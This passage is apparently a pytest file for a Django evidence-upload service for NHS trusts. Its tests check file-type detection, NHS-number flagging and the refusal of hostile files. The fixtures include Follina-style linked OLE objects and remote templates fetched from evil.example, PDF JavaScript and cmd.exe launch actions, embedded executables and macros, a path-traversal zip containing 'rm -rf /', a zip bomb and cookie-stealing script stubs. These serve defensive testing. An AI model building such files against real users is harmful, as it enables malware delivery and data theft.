"""Uploading evidence: content checks, hostile files, NHS-number flagging, held files and the upload service.

Files are built in the tests. The evidence storage points at a temporary directory, so that
"nothing stored" can be checked on disk as well as in the database.
"""

from __future__ import annotations

import datetime
import hashlib
import io
import os
import re
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from assessments import evidence
from assessments.evidence_forms import EvidenceUploadForm
from assessments.models import AssessmentEvent, AuditAction, EvidenceItem, EvidenceVersion, ResponseEvidence
from portal.models import AuditEvent

# ---- building files ---------------------------------------------------------------------------------


def make_pdf(
    text: str = "Social work supervision audit 2026",
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: tuple[bytes, ...] = (),
    unlisted: tuple[bytes, ...] = (),
) -> bytes:
    """A small, valid one-page PDF whose page shows ``text``.

    ``catalog`` and ``page`` are added to those dictionaries; ``objects`` become objects 6, 7, …;
    ``unlisted`` objects follow them in the file but are left out of the cross-reference table.
    """
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >>" + page + b" >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    for number, body in enumerate(unlisted, start=len(objects) + 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def make_pdf_with_object_stream(packed: bytes, *, catalog: bytes = b" /OpenAction 6 0 R") -> bytes:
    """A PDF 1.5 whose object 6 (``packed``) is compressed inside an object stream, with an xref stream."""
    content = b"BT /F1 12 Tf 72 720 Td (Board minutes) Tj ET"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        4: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    header = b"6 0 "
    packed_data = zlib.compress(header + packed)
    objects[7] = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed_data))
        + packed_data
        + b"\nendstream"
    )
    out = b"%PDF-1.5\n"
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[8] = len(out)

    def row(kind: int, field: int, index: int = 0) -> bytes:
        return bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big")

    rows = [row(0, 0, 0xFFFF)]
    rows += [row(2, 7, 0) if number == 6 else row(1, offsets[number]) for number in range(1, 9)]
    xref_data = b"".join(rows)
    out += (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(xref_data)
        + xref_data
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    return out


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
POWERPOINT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def make_zip(members: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED if name == "mimetype" else compression)
    return buffer.getvalue()


def make_ooxml(main_type: str, main_part: str, parts: dict[str, str | bytes], extra_types: str = "") -> bytes:
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra_types}</Types>'
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'officeDocument" Target="{main_part}"/></Relationships>'
    )
    return make_zip({"[Content_Types].xml": content_types, "_rels/.rels": rels, **parts})


def make_docx(*paragraphs: str, runs: list[str] | None = None) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    if runs:  # one paragraph whose text is split across several runs, as Word often writes it
        body += "<w:p>" + "".join(f"<w:r><w:t>{text}</w:t></w:r>" for text in runs) + "</w:p>"
    document = f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'
    return make_ooxml(WORD_MAIN, "word/document.xml", {"word/document.xml": document})


def make_xlsx(*cells: str) -> bytes:
    row = "".join(f'<c r="{chr(65 + i)}1"><v>{value}</v></c>' for i, value in enumerate(cells))
    sheet = f'<?xml version="1.0"?><worksheet><sheetData><row r="1">{row}</row></sheetData></worksheet>'
    workbook = '<?xml version="1.0"?><workbook><sheets><sheet name="Staff" sheetId="1"/></sheets></workbook>'
    return make_ooxml(EXCEL_MAIN, "xl/workbook.xml", {"xl/workbook.xml": workbook, "xl/worksheets/sheet1.xml": sheet})


def make_pptx(text: str = "Workforce plan") -> bytes:
    presentation = '<?xml version="1.0"?><p:presentation xmlns:p="p"/>'
    slide = f'<?xml version="1.0"?><p:sld xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sld>'
    return make_ooxml(
        POWERPOINT_MAIN,
        "ppt/presentation.xml",
        {"ppt/presentation.xml": presentation, "ppt/slides/slide1.xml": slide},
    )


def make_docm() -> bytes:
    """A macro-enabled Word document: the macro main type and a VBA project part."""
    document = f'<?xml version="1.0"?><w:document {W}><w:body><w:p/></w:body></w:document>'
    return make_ooxml(
        WORD_MACRO_MAIN,
        "word/document.xml",
        {"word/document.xml": document, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA macro"},
        extra_types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE_OBJECT_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
OLE_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file, as Office embeds


def relationships(*entries: str) -> str:
    """A relationships part holding ``entries`` (see ``relationship``)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(entries)
        + "</Relationships>"
    )


def relationship(kind: str, target: str, *, external: bool = False, number: int = 9) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{REL}{kind}" Target="{target}"{mode}/>'


def make_office(kind: str, parts: dict[str, str | bytes], *, extra_types: str = "", text: str = "Policy") -> bytes:
    """A .docx, .xlsx or .pptx with some text and the extra ``parts`` (embeddings, relationships…)."""
    if kind == "docx":
        body = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>"
        main = f'<?xml version="1.0"?><w:document {W}>{body}</w:document>'
        return make_ooxml(WORD_MAIN, "word/document.xml", {"word/document.xml": main, **parts}, extra_types)
    if kind == "xlsx":
        main = f'<?xml version="1.0"?><workbook><sheets><sheet name="{text}" sheetId="1"/></sheets></workbook>'
        return make_ooxml(EXCEL_MAIN, "xl/workbook.xml", {"xl/workbook.xml": main, **parts}, extra_types)
    main = f'<?xml version="1.0"?><p:presentation xmlns:p="p"><p:t>{text}</p:t></p:presentation>'
    return make_ooxml(POWERPOINT_MAIN, "ppt/presentation.xml", {"ppt/presentation.xml": main, **parts}, extra_types)


def with_ole_object(kind: str) -> bytes:
    """An Office file with an embedded OLE object as Office writes it: the part, its content type, its relationship."""
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    main = {"docx": "document.xml", "xlsx": "workbook.xml", "pptx": "presentation.xml"}[kind]
    return make_office(
        kind,
        {
            f"{folder}/embeddings/oleObject1.bin": OLE_BYTES,
            f"{folder}/_rels/{main}.rels": relationships(relationship("oleObject", "embeddings/oleObject1.bin")),
        },
        extra_types=f'<Default Extension="bin" ContentType="{OLE_OBJECT_TYPE}"/>',
    )


def with_template(target: str) -> bytes:
    """A .docx whose settings attach the template at ``target``, as Word records it."""
    return make_office(
        "docx",
        {
            "word/settings.xml": f'<?xml version="1.0"?><w:settings {W}><w:attachedTemplate r:id="rId9"/></w:settings>',
            "word/_rels/settings.xml.rels": relationships(relationship("attachedTemplate", target, external=True)),
        },
    )


def make_opendocument(kind: str = "text", text: str = "Supervision policy", extra: dict | None = None) -> bytes:
    content = (
        '<?xml version="1.0"?><office:document-content xmlns:office="o" xmlns:text="t"><office:body>'
        f"<text:p>{text}</text:p></office:body></office:document-content>"
    )
    return make_zip(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": content,
            "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest xmlns:manifest="m"/>',
            **(extra or {}),
        }
    )


def make_image(image_format: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 3), (0, 94, 184)).save(buffer, image_format)
    return buffer.getvalue()


CSV = b"Indicator,Value\r\nSocial workers (WTE),42.5\r\nVacancy rate,0.15\r\n"
VALID_NHS_NUMBER = "9434765919"
INVALID_NHS_NUMBER = "9434765918"  # the check digit is wrong

# ---- fixtures and helpers -------------------------------------------------------------------------


def use_temporary_evidence_storage(monkeypatch, settings, tmp_path) -> Path:
    """Point the evidence storage (and the model field that resolved it at import) at a temporary folder."""
    root = tmp_path / "evidence-storage"
    root.mkdir()
    settings.STORAGES = {
        **settings.STORAGES,
        "evidence": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": root}},
    }
    monkeypatch.setattr(EvidenceVersion._meta.get_field("file"), "storage", FileSystemStorage(location=root))
    return root


@pytest.fixture(autouse=True)
def storage_root(monkeypatch, settings, tmp_path):
    return use_temporary_evidence_storage(monkeypatch, settings, tmp_path)


def stored_files(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file())


def details(**overrides) -> dict:
    data = {
        "title": "Supervision audit 2026",
        "description": "Quarterly audit of professional supervision.",
        "evidence_date_day": "31",
        "evidence_date_month": "3",
        "evidence_date_year": "2026",
        "owner": "Principal social worker",
        "confirm_no_patient_data": "on",
    }
    data.update(overrides)
    return {key: value for key, value in data.items() if value is not None}


def upload(client, trust, name: str, content: bytes, *, query: str = "", **fields):
    url = reverse("evidence-upload", args=[trust.ods_code]) + query
    return client.post(url, {**details(**fields), "file": SimpleUploadedFile(name, content)})


def page_text(response) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", response.content.decode()).split())


def input_value(html: str, name: str) -> str | None:
    """The value of the one <input> named ``name`` in the page, or None if it has no value."""
    tags = re.findall(rf'<input\b[^>]*\bname="{re.escape(name)}"[^>]*>', html)
    assert len(tags) == 1, f"expected one input named {name}, found {len(tags)}"
    value = re.search(r'\bvalue="([^"]*)"', tags[0])
    return value.group(1) if value else None


def hidden_token(response) -> str:
    match = re.search(r'name="upload_token" value="([^"]+)"', response.content.decode())
    assert match, "no held-upload token in the form"
    return match.group(1)


def add_document(trust, user, *, title="Supervision policy", name="policy.pdf", content=None, date=None):
    """A document in the trust's library, added through the service."""
    checked = evidence.check_upload(SimpleUploadedFile(name, content if content is not None else make_pdf()))
    return evidence.create_file_evidence(
        trust=trust,
        created_by=user,
        title=title,
        evidence_date=date or datetime.date(2026, 3, 31),
        owner="Principal social worker",
        upload=checked,
        confirmed_no_patient_data=True,
    )


# ---- good files -----------------------------------------------------------------------------------

GOOD_FILES = [
    ("minutes.pdf", make_pdf, "application/pdf"),
    ("policy.docx", lambda: make_docx("Supervision policy"), evidence.FILE_TYPES["docx"].content_type),
    ("dashboard.xlsx", lambda: make_xlsx("Headcount", "42"), evidence.FILE_TYPES["xlsx"].content_type),
    ("board.pptx", make_pptx, evidence.FILE_TYPES["pptx"].content_type),
    ("policy.odt", make_opendocument, "application/vnd.oasis.opendocument.text"),
    ("figures.ods", lambda: make_opendocument("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    ("figures.csv", lambda: CSV, "text/csv"),
    ("chart.png", lambda: make_image("PNG"), "image/png"),
    ("photo.jpg", lambda: make_image("JPEG"), "image/jpeg"),
    ("photo.JPEG", lambda: make_image("JPEG"), "image/jpeg"),
]


@pytest.mark.parametrize(("name", "build", "content_type"), GOOD_FILES, ids=[case[0] for case in GOOD_FILES])
def test_allowed_types_are_stored_with_the_detected_type_and_a_random_name(
    client_for, lead, trust, storage_root, name, build, content_type
):
    """Each allowed type is accepted, stored under a random name with its SHA-256, size and detected type."""
    content = build()
    response = upload(client_for(lead), trust, name, content)

    version = EvidenceVersion.objects.select_related("item").get()
    assert response.status_code == 302
    assert response.url == reverse("evidence-detail", args=[trust.ods_code, version.item.pk])
    assert version.number == 1
    assert version.original_name == name
    assert version.content_type == content_type
    assert version.size == len(content)
    assert version.sha256 == hashlib.sha256(content).hexdigest()
    assert version.confirmed_no_patient_data is True
    assert re.fullmatch(rf"evidence/{trust.pk}/[0-9a-f]{{32}}\.[a-z]+", version.file.name)
    assert Path(name).stem not in version.file.name
    assert [path.read_bytes() for path in stored_files(storage_root)] == [content]


def test_upload_records_the_items_details_and_an_audit_event(client_for, lead, trust):
    """The item keeps title, description, date and owner; the trust's audit trail records the upload."""
    upload(client_for(lead), trust, "minutes.pdf", make_pdf())

    item = EvidenceItem.objects.get()
    assert (item.title, item.description, item.evidence_date, item.owner, item.kind, item.created_by) == (
        "Supervision audit 2026",
        "Quarterly audit of professional supervision.",
        datetime.date(2026, 3, 31),
        "Principal social worker",
        "file",
        lead,
    )
    event = AuditEvent.objects.get(trust=trust, action="evidence_uploaded")
    assert event.actor == lead
    assert "Supervision audit 2026" in event.summary
    assert event.changes["file_name"] == ["", "minutes.pdf"]


def test_upload_page_offers_the_users_name_as_owner(client_for, contributor, trust):
    """The owner field starts with the uploader's name, and the page asks for the patient-data confirmation."""
    response = client_for(contributor).get(reverse("evidence-upload", args=[trust.ods_code]))

    assert response.status_code == 200
    assert 'value="Connor Contributor"' in response.content.decode()
    assert "I confirm this document contains no patient-identifiable information" in page_text(response)
    assert "Upload a file" in page_text(response)
    assert "Upload a file (optional)" not in page_text(response)
    assert 'enctype="multipart/form-data"' in response.content.decode()


# ---- hostile and unacceptable files ---------------------------------------------------------------

NOT_ALLOWED = evidence.MESSAGES["not_allowed"]
MACROS = evidence.MESSAGES["macros"]
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"

ACTIVE_PDF = evidence.MESSAGES["active_content"]
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"

# Office files that carry code in embedded objects, or fetch it from elsewhere when they open.
EMBEDDED_CODE_FILES = [
    ("OLE object in a .docx", "policy.docx", with_ole_object("docx"), MACROS),
    ("OLE object in a .xlsx", "figures.xlsx", with_ole_object("xlsx"), MACROS),
    ("OLE object in a .pptx", "board.pptx", with_ole_object("pptx"), MACROS),
    (
        "OLE object part alone, without its content type or relationship",
        "policy.docx",
        make_office("docx", {"word/embeddings/oleObject1.bin": OLE_BYTES}),
        MACROS,
    ),
    (
        "OLE object content type on a part in media/",
        "policy.docx",
        make_office(
            "docx",
            {"word/media/image1.png": OLE_BYTES},
            extra_types=f'<Override PartName="/word/media/image1.png" ContentType="{OLE_OBJECT_TYPE}"/>',
        ),
        MACROS,
    ),
    (
        "OLE object relationship to a part in media/",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/media/image1.png": make_image("PNG"),
                "word/_rels/document.xml.rels": relationships(relationship("oleObject", "media/image1.png")),
            },
        ),
        MACROS,
    ),
    (
        "packaged executable in a .pptx",
        "board.pptx",
        make_office("pptx", {"ppt/embeddings/setup.exe": b"MZ\x90\x00"}),
        MACROS,
    ),
    (
        "macro-enabled document embedded in a .docx",
        "policy.docx",
        make_office("docx", {"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": make_docm()}),
        MACROS,
    ),
    (
        "workbook with a VBA project embedded in a .docx under a .xlsx name",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_office(
                    "xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}
                )
            },
        ),
        MACROS,
    ),
    (
        "OLE object embedded in a .docx under a .xlsx name",
        "policy.docx",
        make_office("docx", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": OLE_BYTES}),
        MACROS,
    ),
    (
        "workbook embedded in a workbook embedded in a .docx",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_office(
                    "xlsx", {"xl/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx("Hidden")}
                )
            },
        ),
        MACROS,
    ),
    (
        "macro-enabled document in media/ that a relationship says is an embedded package",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/media/image1.docm": make_docm(),
                "word/_rels/document.xml.rels": relationships(relationship("package", "media/image1.docm")),
            },
        ),
        MACROS,
    ),
    (
        "chart data workbook with a VBA project outside embeddings/",
        "board.pptx",
        make_office(
            "pptx",
            {
                "ppt/media/data.xlsx": make_office("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}),
                "ppt/charts/_rels/chart1.xml.rels": relationships(relationship("package", "../media/data.xlsx")),
            },
        ),
        MACROS,
    ),
    ("template attached from a web address", "policy.docx", with_template("https://evil.example/t.dotm"), MACROS),
    ("template attached from a network share", "policy.docx", with_template(r"\\evil.example\share\t.dotm"), MACROS),
    (
        "template attached from a file URL on another host",
        "policy.docx",
        with_template("file://evil.example/share/t.dotm"),
        MACROS,
    ),
    (
        "linked OLE object fetched from a web address (Follina)",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    relationship(
                        "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x", external=True
                    )
                )
            },
        ),
        MACROS,
    ),
    (
        "linked OLE object in a worksheet's relationships",
        "figures.xlsx",
        make_office(
            "xlsx",
            {
                "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                    relationship("oleObject", "https://evil.example/x", external=True)
                )
            },
        ),
        MACROS,
    ),
    (
        "relationship type written with a character reference",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/_rels/settings.xml.rels": relationships(
                    relationship("attachedTemplat&#101;", "https://evil.example/t.dotm", external=True)
                )
            },
        ),
        MACROS,
    ),
    (
        "relationships part in UTF-16",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/_rels/settings.xml.rels": relationships(
                    relationship("attachedTemplate", "https://evil.example/t.dotm", external=True)
                )
                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                .encode("utf-16")
            },
        ),
        MACROS,
    ),
    (
        "OpenDocument with an embedded OLE object",
        "policy.odt",
        make_opendocument(
            extra={
                "Object 1": OLE_BYTES,
                "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest xmlns:manifest="m">'
                '<manifest:file-entry manifest:full-path="Object 1"'
                ' manifest:media-type="application/vnd.sun.star.oleobject"/>'
                "</manifest:manifest>",
            }
        ),
        MACROS,
    ),
]

# PDFs with scripts, launch actions, attachments, rich media or XFA forms.
ACTIVE_PDF_FILES = [
    (
        "PDF with JavaScript run when it opens",
        "minutes.pdf",
        make_pdf(catalog=b" /OpenAction " + JS_ACTION),
        ACTIVE_PDF,
    ),
    (
        "PDF with document JavaScript in its names tree",
        "minutes.pdf",
        make_pdf(catalog=b" /Names << /JavaScript 6 0 R >>", objects=(b"<< /Names [(init) 7 0 R] >>", JS_ACTION)),
        ACTIVE_PDF,
    ),
    (
        "PDF page with a JavaScript action when it opens",
        "minutes.pdf",
        make_pdf(page=b" /AA << /O " + JS_ACTION + b" >>"),
        ACTIVE_PDF,
    ),
    (
        "PDF link annotation that launches a program",
        "minutes.pdf",
        make_pdf(
            page=b" /Annots [6 0 R]",
            objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (cmd.exe) >> >>",),
        ),
        ACTIVE_PDF,
    ),
    (
        "PDF with an embedded file",
        "minutes.pdf",
        make_pdf(
            catalog=b" /Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>",
            objects=(
                b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
        ACTIVE_PDF,
    ),
    (
        "PDF with a file attachment annotation",
        "minutes.pdf",
        make_pdf(
            page=b" /Annots [6 0 R]",
            objects=(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (setup.exe) >>",),
        ),
        ACTIVE_PDF,
    ),
    (
        "PDF with a rich media annotation",
        "minutes.pdf",
        make_pdf(page=b" /Annots [6 0 R]", objects=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",)),
        ACTIVE_PDF,
    ),
    (
        "PDF with an XFA form",
        "minutes.pdf",
        make_pdf(
            catalog=b" /AcroForm << /Fields [] /XFA 6 0 R >>",
            objects=(b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream",),
        ),
        ACTIVE_PDF,
    ),
    (
        "PDF with JavaScript inside a compressed object stream",
        "minutes.pdf",
        make_pdf_with_object_stream(JS_ACTION),
        ACTIVE_PDF,
    ),
    (
        "PDF with names written with #xx escapes",
        "minutes.pdf",
        make_pdf(catalog=b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        ACTIVE_PDF,
    ),
    (
        "PDF with a JavaScript action left out of its cross-reference table",
        "minutes.pdf",
        make_pdf(catalog=b" /OpenAction 6 0 R", unlisted=(JS_ACTION,)),
        ACTIVE_PDF,
    ),
]

HOSTILE_FILES = [
    (
        "executable renamed .pdf",
        "minutes.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program",
        NOT_ALLOWED,
    ),
    ("ELF binary", "tool.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, NOT_ALLOWED),
    ("HTML page", "page.html", HTML, NOT_ALLOWED),
    ("HTML named .csv", "figures.csv", HTML, NOT_ALLOWED),
    ("HTML after a CSV line", "figures.csv", b"a,b\r\n1,2\r\n<script>alert(1)</script>", NOT_ALLOWED),
    ("SVG with script", "chart.svg", SVG, NOT_ALLOWED),
    ("SVG named .png", "chart.png", SVG, NOT_ALLOWED),
    ("macro-enabled .docm", "policy.docm", make_docm(), MACROS),
    ("macro-enabled Word renamed .docx", "policy.docx", make_docm(), MACROS),
    (
        "VBA project in a .docx",
        "policy.docx",
        make_ooxml(WORD_MAIN, "word/document.xml", {"word/document.xml": "<w:document/>", "word/vbaProject.bin": b"x"}),
        MACROS,
    ),
    (
        "OpenDocument with Basic macros",
        "policy.odt",
        make_opendocument(extra={"Basic/Standard/Module1.xml": "x"}),
        MACROS,
    ),
    ("plain zip archive", "evidence.zip", make_zip({"policy.pdf": make_pdf()}), NOT_ALLOWED),
    ("zip archive renamed .docx", "policy.docx", make_zip({"policy.pdf": make_pdf()}), NOT_ALLOWED),
    ("zip with a parent-directory member", "policy.docx", make_zip({"../../evil.sh": b"rm -rf /"}), NOT_ALLOWED),
    (
        "zip bomb",
        "figures.xlsx",
        make_ooxml(EXCEL_MAIN, "xl/workbook.xml", {"xl/workbook.xml": "<workbook/>", "xl/big.xml": b"0" * 4_000_000}),
        evidence.MESSAGES["unpacked_too_big"],
    ),
    ("OpenDocument presentation", "slides.odp", make_opendocument("presentation"), NOT_ALLOWED),
    (
        "old Word format",
        "policy.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        evidence.MESSAGES["legacy_office"],
    ),
    ("RAR archive", "evidence.pdf", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32, NOT_ALLOWED),
    ("7-Zip archive", "evidence.pdf", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32, NOT_ALLOWED),
    ("JavaScript", "script.js", b"alert(document.cookie)", NOT_ALLOWED),
    ("text that is not named .csv", "notes.txt", b"Plain text notes", NOT_ALLOWED),
    ("CSV in UTF-16", "figures.csv", "a,b\r\n1,2\r\n".encode("utf-16"), NOT_ALLOWED),
    ("PNG that is not a whole image", "chart.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, evidence.MESSAGES["damaged"]),
    ("JPEG that is not a whole image", "photo.jpg", make_image("JPEG")[:60], evidence.MESSAGES["damaged"]),
    ("PDF header with nothing behind it", "minutes.pdf", b"%PDF-1.7\n garbage", evidence.MESSAGES["damaged"]),
    ("PNG named .pdf", "minutes.pdf", make_image("PNG"), None),
    ("empty file", "minutes.pdf", b"", "The selected file is empty"),
    *EMBEDDED_CODE_FILES,
    *ACTIVE_PDF_FILES,
]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [case[1:] for case in HOSTILE_FILES],
    ids=[case[0] for case in HOSTILE_FILES],
)
def test_hostile_or_unacceptable_file_is_refused_and_nothing_is_stored(
    client_for, lead, trust, storage_root, name, content, message
):
    """The upload is refused with a specific message on the file field, nothing is stored, and typed fields stay."""
    response = upload(client_for(lead), trust, name, content)

    assert response.status_code == 200
    text = page_text(response)
    expected = message or "The selected file is a PNG image but its name ends in .pdf. Rename it to end in .png"
    assert expected in text
    assert "There is a problem" in text
    assert EvidenceItem.objects.count() == 0
    assert EvidenceVersion.objects.count() == 0
    assert AuditEvent.objects.filter(action__startswith="evidence").count() == 0
    assert stored_files(storage_root) == []
    html = response.content.decode()
    assert 'value="Supervision audit 2026"' in html
    assert "Quarterly audit of professional supervision." in html
    assert 'value="Principal social worker"' in html
    assert [input_value(html, f"evidence_date_{part}") for part in ("day", "month", "year")] == ["31", "3", "2026"]


GOOD_OFFICE_FILES = [
    (
        "pictures in media/ and embeddings/",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/media/image1.png": make_image("PNG"),
                "word/embeddings/image2.emf": b"\x01\x00\x00\x00",
                "word/_rels/document.xml.rels": relationships(relationship("image", "media/image1.png")),
            },
        ),
    ),
    (
        "a chart's data workbook in embeddings/",
        "board.pptx",
        make_office(
            "pptx",
            {
                "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx("Vacancies", "12"),
                "ppt/charts/_rels/chart1.xml.rels": relationships(
                    relationship("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
                ),
            },
        ),
    ),
    (
        "the template it was made from, on the author's computer",
        "policy.docx",
        with_template(r"file:///C:\Users\lead\AppData\Roaming\Microsoft\Templates\Trust letter.dotx"),
    ),
    (
        "a link to a web page",
        "policy.docx",
        make_office(
            "docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    relationship("hyperlink", "https://www.example.nhs.uk/policy", external=True)
                )
            },
        ),
    ),
]


@pytest.mark.parametrize(
    ("name", "content"), [case[1:] for case in GOOD_OFFICE_FILES], ids=[case[0] for case in GOOD_OFFICE_FILES]
)
def test_office_files_with_pictures_charts_templates_and_links_are_accepted(name, content):
    """Pictures, a chart's plain workbook, a local template and web links are not code: the file is accepted."""
    checked = evidence.check_upload(SimpleUploadedFile(name, content))

    assert checked.file_type.code == name.rsplit(".", 1)[1]


def test_nhs_number_in_an_embedded_workbook_is_flagged():
    """The text of an Office document embedded in another (a chart's data) is searched for NHS numbers too."""
    content = make_office(
        "docx", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx("Ref", VALID_NHS_NUMBER)}
    )

    assert evidence.check_upload(SimpleUploadedFile("report.docx", content)).nhs_numbers == (VALID_NHS_NUMBER,)


GOOD_PDFS = [
    (
        "a link to a web page",
        make_pdf(
            page=b" /Annots [6 0 R]",
            objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nhs.uk/) >> >>",),
        ),
    ),
    ("a form to fill in", make_pdf(catalog=b" /AcroForm << /Fields [6 0 R] >>", objects=(b"<< /FT /Tx /T (Name) >>",))),
